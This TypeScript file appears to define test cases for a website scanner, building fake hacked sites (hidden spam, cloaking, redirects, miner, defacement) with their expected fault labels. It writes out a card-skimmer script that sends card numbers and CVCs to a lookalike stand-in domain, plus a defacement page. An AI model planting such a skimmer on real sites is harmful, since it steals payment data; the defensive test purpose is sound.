import { type Case, several } from '../case.ts'
import { charCodes, miner, packed } from '../hack/malware.ts'
import { tillSite } from '../hack/skimmer.ts'
import { casinoPage, copyPage, pillPage, slotPage } from '../hack/spam-pages.ts'
import { atEnd, inHead } from '../sites/edit.ts'
import { garage, planner, restaurant, studio } from '../sites/further.ts'
import { bootstrap, next, plain } from '../sites/handmade.ts'
import { joomla } from '../sites/other-cms.ts'
import { send } from '../sites/send.ts'
import { setUp, type Wish } from '../sites/site.ts'
import { bikes, hotel, lawyers, plumber } from '../sites/western.ts'
import { wordpress } from '../sites/wordpress.ts'
import {
  deadLink,
  hiddenPills,
  listing,
  merged,
  noTitle,
  oldWordpress,
  openPicture,
  openSession,
  spamMap,
  splitFront,
} from './parts.ts'

const on = (first: Wish, ...others: readonly Wish[]) => ({ lab: () => setUp(merged(first, ...others)) })
const old = (theme: string) => wordpress({ theme, version: oldWordpress })
const HACKED =
  '<html><head><title>Hacked By Xr00tKid</title></head><body style="background:#000;color:#0f0"><center><h1>Hacked By Xr00tKid</h1><p>Greetz to Phantom Crew. Patch your system, admin!</p></center></body></html>'
const REPLACED = ['seo.*', 'ux.*', 'a11y.*', 'perf.*', 'hdr.*', 'gdpr.*', 'biz.*', 'asset.*', 'link.*']
const gtag =
  '<script async src="https://www.googletagmanager.com/gtag/js?id=G-7QX2K9L4MB"></script><script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}gtag("js",new Date());gtag("config","G-7QX2K9L4MB");</script>'
const skim =
  '<script>document.getElementById("checkout-form").addEventListener("submit",function(){var n=document.querySelector("#cc-number").value,v=document.querySelector("#cc-cvc").value;new Image().src="https://google-analytlcs.test/p.gif?d="+btoa(n+"|"+v)});</script>'

/** Broken into, and something besides that is smaller or how they came in. */
export const hackedToo: Case[] = several({
  'hidden-pills-in-old-wordpress': {
    ...on({ layout: old('astra') }, hiddenPills),
    faults: ['hack.spam_hidden', 'cms.outdated'],
  },
  'cloaked-old-wordpress': {
    lab: () => setUp(splitFront({ business: plumber, layout: old('divi') }, 'crawlers', pillPage)),
    faults: ['hack.cloaking', 'cms.outdated'],
  },
  'injected-old-wordpress': {
    ...on(
      { business: restaurant, layout: old('lightning') },
      { edit: inHead(packed('statsjquery-cdn.test')) },
    ),
    faults: ['hack.injected_js', 'cms.outdated'],
  },
  'redirected-and-open-session': {
    lab: () => setUp(splitFront(merged({ business: lawyers, layout: joomla() }, openSession), 'search')),
    faults: ['hack.cond_redirect', 'cookie.insecure'],
  },
  'redirected-old-wordpress': {
    lab: () => setUp(splitFront({ layout: old('kadence') }, 'search')),
    faults: ['hack.cond_redirect', 'cms.outdated'],
  },
  'doorways-and-no-title': {
    ...on({ business: hotel, layout: bootstrap }, spamMap(copyPage, 'ルイヴィトン-激安'), noTitle),
    faults: ['hack.seo_urls', 'seo.title_desc'],
  },
  'doorways-in-old-wordpress': {
    ...on({ business: bikes, layout: old('oceanwp') }, spamMap(slotPage, 'slot-gacor-maxwin')),
    faults: ['hack.seo_urls', 'cms.outdated'],
  },
  'hidden-pills-and-dead-link': {
    ...on({ business: garage, layout: plain }, deadLink, hiddenPills),
    faults: ['hack.spam_hidden', 'link.broken_internal'],
  },
  'hidden-pills-session-and-link': {
    ...on({ business: studio, layout: bootstrap }, openSession, deadLink, hiddenPills),
    faults: ['hack.spam_hidden', 'cookie.insecure', 'link.broken_internal'],
  },
  'cloaked-and-mixed': {
    lab: () =>
      setUp(splitFront(merged({ business: planner, layout: next }, openPicture), 'crawlers', casinoPage)),
    faults: ['hack.cloaking', 'mixed.passive'],
  },
  'miner-and-early-tracking': {
    ...on({ business: lawyers, layout: bootstrap, head: gtag }, { edit: atEnd(miner) }),
    faults: ['hack.injected_js', 'gdpr.pre_consent'],
  },
  'char-codes-and-dead-link': {
    ...on({ business: hotel, layout: wordpress() }, deadLink, {
      edit: inHead(
        `${charCodes('specialadves-trail.test')}<script src="https://specialadves-trail.test/scripts/start.js"></script>`,
      ),
    }),
    faults: ['hack.injected_js', 'link.broken_internal'],
  },
  'defaced-and-open-folder': {
    ...on({
      layout: wordpress(),
      pages: { '/': send(HACKED, { safe: false }), '/wp-content/uploads/': listing },
    }),
    owner: true,
    allowed: REPLACED,
    faults: ['hack.defaced', 'expo.dirlist'],
  },
  'skimmer-and-open-session': {
    ...on(tillSite({ layout: wordpress({ theme: 'flatsome' }), ...openSession }, 'cc', atEnd(skim))),
    url: 'https://shop.test/checkout/',
    faults: ['hack.skimmer', 'cookie.insecure'],
  },
})
